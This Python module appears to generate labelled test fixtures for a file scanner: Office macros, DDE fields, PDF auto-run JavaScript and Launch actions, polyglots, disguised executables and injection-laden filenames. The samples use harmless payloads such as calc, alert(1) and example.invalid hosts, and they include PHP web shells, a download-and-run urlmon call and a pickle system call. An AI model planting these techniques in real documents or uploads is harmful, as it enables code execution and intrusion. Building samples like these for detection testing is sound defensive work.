"""Office, PDF, what is damaged, disguised or two things at once: which other spellings does each have?"""
import bz2
import lzma
import struct
import zlib

from build import *  # noqa: F403
from containers import notebook, sqlite
from pages import COOKIE, JS, page, svg

START = 'Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub\r\n'
CALM = "Sub Sort()\r\nRange(\"A1\").Sort\r\nEnd Sub\r\n"
MACRO = ("word/vbaProject.bin", cfb(vba(START)))
SHARE = "file://example.invalid/share/a"


def field(text):
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{text}</w:instrText></w:r></w:p>'


def office():
    types = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    web = f"https://{HOST}/a.dotm"
    return [
        ("open.docm", M, docx(extra=[MACRO], more_types=types)),
        ("hidden.docx", M, docx(extra=[MACRO])),
        ("renamed.docx", M, docx(extra=[("word/media/image1.png", cfb(vba(START)))])),
        ("book.xlsm", M, xlsx(extra=[("xl/vbaProject.bin", cfb(vba(START.replace("AutoOpen", "Workbook_Open"))))])),
        ("other.xlsx", M, xlsx(extra=[("xl/printer.bin", cfb(vba(CALM)))])),
        ("slides.pptm", M, pptx(extra=[("ppt/vbaProject.bin", cfb(vba(START.replace("AutoOpen", "Auto_Open"))))])),
        ("addin.xlam", M, xlsx(extra=[("xl/vbaProject.bin", cfb(vba(START.replace("AutoOpen", "Workbook_Open"))))])),
        ("document.doc", M, cfb({"WordDocument": bytes(64), **{"Macros/" + k.replace("VBA/", ""): v for k, v in vba(START).items()}})),
        ("close.docm", M, docx(extra=[("word/vbaProject.bin", cfb(vba('Sub Document_Close()\r\nCreateObject("WScript' + '.Shell").Run "x"\r\nEnd Sub')))])),
        ("ink.docm", M, docx(extra=[("word/vbaProject.bin", cfb(vba('Sub Ink_Painted(ByVal a)\r\nGetObject("winmgmts:").Create "x"\r\nEnd Sub')))])),
        ("calm.docm", S, docx(extra=[("word/vbaProject.bin", cfb(vba(CALM)))])),
        ("template.docx", M, docx(rels=[("attachedTemplate", web)])),
        ("template_share.docx", M, docx(rels=[("attachedTemplate", "\\\\example.invalid\\s\\a.dotm")])),
        ("object.docx", M, docx(rels=[("oleObject", f"https://{HOST}/a.rtf!")])),
        ("mhtml.docx", M, docx(rels=[("oleObject", f"mhtml:https://{HOST}/a.html!x-usc:https://{HOST}/a.html")])),
        ("frame.docx", S, docx(rels=[("frame", f"https://{HOST}/a.html")])),
        ("chunk.docx", S, docx(rels=[("aFChunk", f"https://{HOST}/a.html")])),
        ("picture.docx", S, docx(rels=[("image", f"https://{HOST}/a.png")])),
        ("picture_share.docx", M, docx(rels=[("image", SHARE)])),
        ("sub.docx", S, docx(rels=[("subDocument", f"https://{HOST}/a.docx")])),
        ("settings.docx", M, docx(extra=[("word/_rels/settings.xml.rels", f'<Relationships xmlns="{RELS}"><Relationship Id="r" Type="{DOC}/attachedTemplate" Target="{web}" TargetMode="External"/></Relationships>')])),
        ("dde.docx", M, docx(field("DDEAUTO c:\\\\windows\\\\system32\\\\cm" + 'd.exe "/k calc"'))),
        ("dde_split.docx", M, docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + "".join(f"<w:r><w:instrText>{p}</w:instrText></w:r>" for p in ("D", "DE", "AUTO c:\\cm", "d.exe")) + "</w:p>")),
        ("dde_simple.docx", M, docx("<w:fldSimple w:instr='DDE cmd \"/c calc\"'/>")),
        ("dde_quote.docx", M, docx(field("QUOTE 68 68 69 65 85 84 79"))),
        ("dde_header.docx", M, docx(extra=[("word/header1.xml", f'<w:hdr xmlns:w="{W}">{field("DDEAUTO cmd x")}</w:hdr>')])),
        ("include.docx", S, docx(field(f'INCLUDEPICTURE "http://{HOST}/a.png" \\\\d'))),
        ("dde.xlsx", M, xlsx(extra=[("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{X}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')])),
        ("formula.xlsx", M, xlsx("<c r='A1'><f>cmd|'/c calc'!A0</f><v>0</v></c>")),
        ("named.xlsx", M, xlsx(book="<definedNames><definedName name='_xlnm.Auto_Open'>a!$A$1</definedName></definedNames>")),
        ("sheets.xlsm", M, xlsx(extra=[("xl/macrosheets/sheet1.xml", f'<xm:macrosheet xmlns:xm="urn:x"><sheetData><row><c r="A1"><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>')])),
        ("calls.xlsx", M, xlsx("<c r='A1'><f>CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://a\",\"b\",0,0)</f></c>")),
        ("service.xlsx", S, xlsx(f"<c r='A1'><f>WEBSERVICE(\"http://{HOST}/?\"&amp;A2)</f></c>")),
        ("linked.xlsx", S, xlsx(extra=[("xl/externalLinks/_rels/externalLink1.xml.rels", f'<Relationships xmlns="{RELS}"><Relationship Id="r" Type="{DOC}/externalLinkPath" Target="https://{HOST}/a.xlsx" TargetMode="External"/></Relationships>')])),
        ("linked_share.xlsx", M, xlsx(extra=[("xl/externalLinks/_rels/externalLink1.xml.rels", f'<Relationships xmlns="{RELS}"><Relationship Id="r" Type="{DOC}/externalLinkPath" Target="{SHARE}" TargetMode="External"/></Relationships>')])),
        ("query.xlsx", S, xlsx(extra=[("xl/connections.xml", f'<connections xmlns="{X}"><connection id="1"><webPr url="http://{HOST}/a"/></connection></connections>')])),
        ("program.docx", M, docx(extra=[("word/embeddings/a.exe", PE)])),
        ("packaged.docx", S, docx(extra=[("word/embeddings/oleObject1.bin", cfb({"\x01Ole10Native": b"\x20\0\0\0\2\0a.txt\0" + bytes(32)}))])),
        ("equation.doc", M, cfb({"WordDocument": bytes(64), "ObjectPool/Equation Native": bytes(64)})),
        ("control.docx", S, docx(extra=[("word/activeX/activeX1.bin", bytes(64))])),
        ("start.pptx", M, pptx("<a:hlinkClick xmlns:a='urn:a' action='ppaction://program?calc.exe'/>")),
        ("hover.pptx", M, pptx("<a:hlinkHover xmlns:a='urn:a' action='ppaction://program'/>", rels=[("hyperlink", SHARE)])),
        ("object.rtf", M, b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 01050000}}}"),
        ("object_split.rtf", M, b"{\\rt{\\obj\r\nect\\objemb{\\*\\objdata 0105}}}"),
        ("template.rtf", M, b"{\\rtf1{\\*\\template http://example.invalid/a.dotm}}"),
        ("dde.rtf", M, b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd x}}}"),
        ("flat.xml", M, f'<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="urn:p"><pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>{b64(cfb(vba(START)))}</pkg:binaryData></pkg:part></pkg:package>'.encode()),
        ("basic.odt", M, zipped([("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<a xmlns:script='urn:s' xmlns:x='urn:x'><script:event-listener script:event-name='dom:load' x:href='vnd.sun.star.script:S.M.Main?language=Basic&amp;location=document'/></a>"), ("Basic/Standard/M.xml", "<m>Sub Main\nShell(\"calc\")\nEnd Sub</m>")])),
    ]


def portable():
    js = b"app.launchURL\\('http://example.invalid/'\\)"
    cat = lambda more: pdf([b"<< /Type /Catalog /Pages 2 0 R " + more + b" >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])
    act = lambda action: cat(b"/OpenAction " + action)
    packed = zlib.compress(b"5 0 << /S /JavaScript /JS (" + js + b") >>")
    objects = stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    xfa = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script contentType='application/x-javascript'>app.alert(1)</script></xdp:xdp>"
    return [
        ("open.pdf", M, act(b"<< /S /JavaScript /JS (" + js + b") >>")),
        ("octal.pdf", M, act(b"<< /S /JavaScript /JS (\\141pp.alert\\(1\\)) >>")),
        ("hex_text.pdf", M, act(b"<< /S /JavaScript /JS <" + b"app.launchURL('x')".hex().encode() + b"> >>")),
        ("hex_name.pdf", M, act(b"<< /#53 /#4a#61vaScript /#4aS (app.alert\\(1\\)) >>")),
        ("wide_text.pdf", M, act(b"<< /S /JavaScript /JS <" + "app.launchURL('x')".encode("utf-16").hex().encode() + b"> >>")),
        ("script_stream.pdf", M, pdf([b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS 2 0 R >> >>", stream(zlib.compress(b"app.launchURL('x')"), b"/Filter /FlateDecode")])),
        ("object_stream.pdf", M, pdf([b"<< /Type /Catalog /OpenAction 5 0 R >>", objects])),
        ("names.pdf", M, cat(b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (" + js + b") >>] >> >>")),
        ("page_open.pdf", M, pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /AA << /O << /S /JavaScript /JS (" + js + b") >> >> >>"])),
        ("rendition.pdf", M, act(b"<< /S /Rendition /JS (" + js + b") >>")),
        ("launch_win.pdf", M, act(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")),
        ("launch_file.pdf", M, act(b"<< /Type /Action /S /Launch /F << /Type /Filespec /F (a.exe) >> >>")),
        ("share.pdf", M, act(b"<< /S /GoToE /F (\\\\\\\\example.invalid\\\\s\\\\a.pdf) /D [0 /Fit] >>")),
        ("share_uri.pdf", M, cat(b"/A << /S /URI /URI (file://example.invalid/s/a) >>")),
        ("script_uri.pdf", M, cat(b"/A << /S /URI /URI (" + JS.encode() + b"alert\\(1\\)) >>")),
        ("stream_file.pdf", M, pdf([b"<< /Type /Catalog >>", stream(b"", b"/F (\\\\\\\\example.invalid\\\\a) /Type /Filespec")])),
        ("import.pdf", S, act(b"<< /S /ImportData /F (a.fdf) >>")),
        ("submit.pdf", S, act(b"<< /S /SubmitForm /F << /FS /URL /F (http://example.invalid/) >> >>")),
        ("submit_button.pdf", S, cat(b"/A << /S /SubmitForm /F (http://example.invalid/) /Flags 4 >>")),
        ("opens.pdf", S, act(b"<< /S /URI /URI (https://example.invalid/) >>")),
        ("rich.pdf", S, cat(b"/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]")),
        ("xfa.pdf", S, pdf([b"<< /Type /Catalog /AcroForm << /XFA 2 0 R >> >>", stream(xfa)])),
        ("xfa_parts.pdf", S, pdf([b"<< /Type /Catalog /AcroForm << /XFA [(template) 2 0 R] >> >>", stream(zlib.compress(xfa), b"/Filter /FlateDecode")])),
        ("attached.pdf", M, pdf([b"<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 2 0 R >> >>] >> >> >>", stream(PE, b"/Type /EmbeddedFile")])),
        ("later.pdf", M, cat(b"") + b"1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (" + js + b") >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"),
        ("shifted.pdf", M, b"%!PS\n" * 20 + act(b"<< /S /JavaScript /JS (" + js + b") >>")),
        ("split.pdf", M, act(b"<</S/Java#53cript/JS(app.laun\\\nchURL\\('x'\\))>>")),
        ("ascii85.pdf", M, pdf([b"<< /Type /Catalog /OpenAction 5 0 R >>", stream(base64.a85encode(packed, adobe=False) + b"~>", b"/Type /ObjStm /N 1 /First 4 /Filter [/A85 /Fl]")])),
    ]


def cut(data, by=6):
    return data[:-by]


def broken(arrow, parquet, h5, orc):
    table = gz(b"a,b\n1,2\n" * 200)
    wrong = bytearray(table)
    wrong[-6] ^= 0xFF
    book = xlsx()
    return [
        ("cut.gif", U, cut(gif(), 4)), ("cut.jpg", U, cut(jpeg(), 4)), ("cut.pdf", U, pdf([b"<< /Type /Catalog >>"])[:-60]),
        ("cut.webp", U, cut(riff(b"WEBP", [(b"VP8L", b"\x2f" + bytes(15))]))), ("cut.wav", U, cut(wav())),
        ("cut.xlsx", U, cut(book, 40)), ("cut.docx", U, cut(docx(), 60)), ("cut.npz", U, cut(zipped([("a.npy", npy(bytes(8)))]), 50)),
        ("cut.npy", U, cut(npy(bytes(8)))), ("cut.tar", U, tarred([("a", b"x" * 2000)])[:900]), ("cut.tar.gz", U, cut(gz(tarred([("a", b"x" * 2000)])))),
        ("cut.json.bz2", U, cut(bz2.compress(b"[1]" * 99))), ("cut.csv.xz", U, cut(lzma.compress(b"1,2\n" * 99))), ("cut.csv.zst", U, cut(zst(b"1,2\n" * 99))),
        ("wrong.csv.gz", U, bytes(wrong)), ("cut.parquet", U, cut(parquet, 20)), ("cut.feather", U, cut(arrow, 20)), ("cut.h5", U, cut(h5, len(h5) // 2)),
        ("cut.orc", U, cut(orc, 3)), ("cut.sqlite", U, cut(sqlite(b"x"), 5000)), ("cut.ipynb", U, cut(notebook())), ("cut.geojson", U, b'{"type": "Feature", "geo'),
        ("line.jsonl", U, b'{"a": 1}\n{"a": \n'), ("open.svg", U, b"<svg xmlns='http://www.w3.org/2000/svg'><g>"), ("open.xml", U, b"<r><a></r>"),
        ("noise.xlsx", U, bytes(range(128, 250))), ("noise.h5", U, bytes(range(128, 250))), ("noise.pkl", U, bytes(range(128, 250))), ("text.png", U, b"not a picture\n"),
        ("empty.png", U, b""), ("empty.parquet", U, b""), ("cut.pkl", U, b"\x80\x04\x95\x20\0\0\0\0\0\0\0]\x94("), ("cut.pt", U, cut(zipped([("a/data.pkl", b"\x80\x02.")]), 30)),
        ("overlap.safetensors", U, struct.pack("<Q", 60) + b'{"a":{"dtype":"F32","shape":[9],"data_offsets":[0,36]}}     ' + bytes(4)),
        ("head.mp4", U, b"\0\0\0\x18ftypisom\0\0\2\0isomiso2\0\1\0\0moov"), ("cut.7z", U, b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24) + b"x"),
        ("magic.parquet", U, b"PAR1" + bytes(20) + b"PAR1"), ("size.bmp", U, b"BM" + struct.pack("<IHHIIiiHHIIiiII", 9999, 0, 0, 54, 40, 90, 90, 1, 24, 0, 8, 0, 0, 0, 0)),
    ]


def mismatches():
    return [
        ("a.docx", M, PE), ("a.gif", M, page("hello")), ("b.png", M, svg("<g/>")), ("a.jpg", M, svg("<g/>")), ("a.mp4", M, PE), ("a.npy", M, ELF),
        ("a.parquet", M, b"\xcf\xfa\xed\xfe" + bytes(60)), ("b.jpg", M, b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60)), ("c.jpg", M, b"<?php sys" + b"tem($_GET['c']); ?>"),
        ("a.pdf", S, zipped([("a", b"x")])), ("a.csv", S, gz(b"1\n")), ("c.png", S, pdf([b"<< /Type /Catalog >>"])), ("a.json", S, page("hello")),
        ("b.csv", S, b"\x80\x04]." ), ("b.txt", M, PE), ("c.txt", S, svg("<g/>")), ("a.xlsx", M, page("<table><tr><td>1</table>")), ("a.sqlite", S, zipped([("a", b"x")])),
        ("a.wav", M, ELF), ("a.webp", S, png()), ("d.png", S, jpeg()), ("a.md", S, zipped([("a", b"x")])), ("d.csv", M, ELF), ("a.yaml", M, PE),
        ("a.html", M, PE), ("b.pdf", M, page("hello")), ("c.csv", S, page("hello")), ("a.log", S, page("hello")), ("a.zip", M, PE), ("a.doc", M, page("hello")),
    ]


def names():
    table = b"a,b\n1,2\n"
    return [(name, label, table) for name, label in {
        "report.docx.exe": M, "data.csv.bat": M, "photo.png.pif": M, "notes.txt.hta": M, "a.pdf.jar": M, "a.xlsx.ps1": M, "img.jpg.js": M, "a.csv.vbs": M,
        "a.pdf.com": M, "book.xls.cmd": M, "a\u202excod.exe": M, "report\u202efdp.exe": M, "a.csv" + " " * 40 + ".scr": M, "a.pdf...exe": M, "a.pdf . exe": M,
        "a\u202bb.csv": S, "a\u2067b.csv": S, "a\u200fb.csv": S, "a\u200eb.csv": S, "a\u200db.csv": S, "a\ufeffb.csv": S, "a\u00adb.csv": S, "\u0430dmin.csv": S,
        "pаypal.csv": S, "ｓｃｒｉｐｔ.csv": S, "a\tb.csv": S, "a\x1b[31mb.csv": S, "a\x00b.csv": S, "a\nSet-Cookie: x.csv": S, "--help.csv": S, "-o.csv": S, "`id`.csv": S,
        "$(id).csv": S, "a;id.csv": S, "a|id.csv": S, "../a.csv": S, "..\\a.csv": S, "C:\\a.csv": S, "CON.csv": S, "nul": S, "com1.txt": S,
        "aux.csv": S, "a.csv.": S, "a.csv ": S, ".bashrc": S, ".env.csv/..": S, ".ssh/authorized_keys": S, "web.config": S, ".user.ini": S,
        "desktop.ini": S, "autorun.inf": S, ".npmrc": S, "a'onerror=alert(1) .csv": S, "\"><script>alert(1)</script>.csv": S, "=cmd.csv": S,
        "a.csv:b": S, "%2e%2e%2fa.csv": S, "a%00.csv": S, "a.html.csv": C, "a" * 300 + ".csv": S, "index.php.csv": C, "~/a.csv": S, "a.pdf.svg": S, "b.png.html": S,
        "plan.docx.htm": S, "x.jpg.xhtml": S, "conftest.py": C, "résumé final (2).csv": C, "データ 1.csv": C, "a-b_c.d.csv": C, "v1.2.3.csv": C, "Ärger & Co.csv": C,
    }.items()]


def polyglots():
    archive = zipped([("a.txt", b"hello\n")])
    jar = zipped([("META-INF/MANIFEST.MF", "Main-Class: A\n"), ("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34")])
    text = page("hello")
    script = page(f"<script>{COOKIE}</script>")
    return [
        ("zip.jpg", S, jpeg(tail=archive)), ("jar.jpg", M, jpeg(tail=jar)), ("page.jpg", S, jpeg([(0xFE, text)])), ("tail.jpg", M, jpeg(tail=script)),
        ("zip.gif", S, gif(tail=archive)), ("page.gif", S, gif(comment=text[:200])), ("script.gif", M, b"GIF89a/*" + gif()[8:] + b"*/=1;alert(1)//"),
        ("tail.png", M, png(tail=script)), ("php.png", M, png(chunks=[(b"tEXt", b"c\0<?php sys" + b"tem($_GET['c']); ?>")])), ("pe.png", S, png(tail=PE)),
        ("pdf.png", S, png(chunks=[(b"tEXt", b"c\0" + pdf([b"<< /Type /Catalog >>"]))])), ("zip.pdf", S, pdf([b"<< /Type /Catalog >>"]) + archive),
        ("page.pdf", M, b"<!doctype html><p>hello<!--" + pdf([b"<< /Type /Catalog >>"])), ("script.bmp", M, b"BM/*" + struct.pack("<HHIIiiHHIIiiII", 0, 0, 54, 40, 1, 1, 1, 24, 0, 8, 0, 0, 0, 0) + bytes(8) + b"*/=1;alert(1)"),
        ("zip.mp4", U, b"\0\0\0\x18ftypisom\0\0\2\0isomiso2\0\0\0\x08free" + archive), ("page.wav", S, wav([(b"LIST", b"INFOICMT" + struct.pack("<I", len(text)) + text)])),
        ("tail.wav", S, wav() + archive), ("zip.sqlite", S, sqlite(b"x") + archive), ("pickle.png", M, png(tail=b"cos\nsystem\n(S'id'\ntR.")),
        ("zip.gz", S, gz(b"hello\n") + archive), ("zip.xz", S, lzma.compress(b"hello\n") + archive), ("two.tar", S, tarred([("a", b"x")]) + tarred([("b", PE)])),
        ("elf.zip", S, ELF + archive), ("pe.zip", S, PE + archive), ("text.zip", S, b"hello\n" * 50 + archive), ("inside.zip", S, zipped([("a", b"x")]) + zipped([("b.exe", PE)])),
        ("comment.zip", S, zipped([("a", b"x")], comment=archive)), ("zip.html", S, text + archive), ("zip.csv", U, b"1,2\n" + archive), ("zip.json", U, b"[1]\n" + archive),
        ("pdf.csv", S, b"1,2\n" + pdf([b"<< /Type /Catalog >>"])), ("late.txt", M, b"a\n" * 400 + pdf([b"<< /Type /Catalog /OpenAction << /S /Launch /F (a.exe) >> >>"])),
        ("page.webp", S, riff(b"WEBP", [(b"VP8L", b"\x2f" + bytes(15)), (b"XMP ", text)])), ("gap.npy", S, npy(bytes(8)) + archive), ("zip.parquet.zip", U, b"PAR1" + archive),
    ]
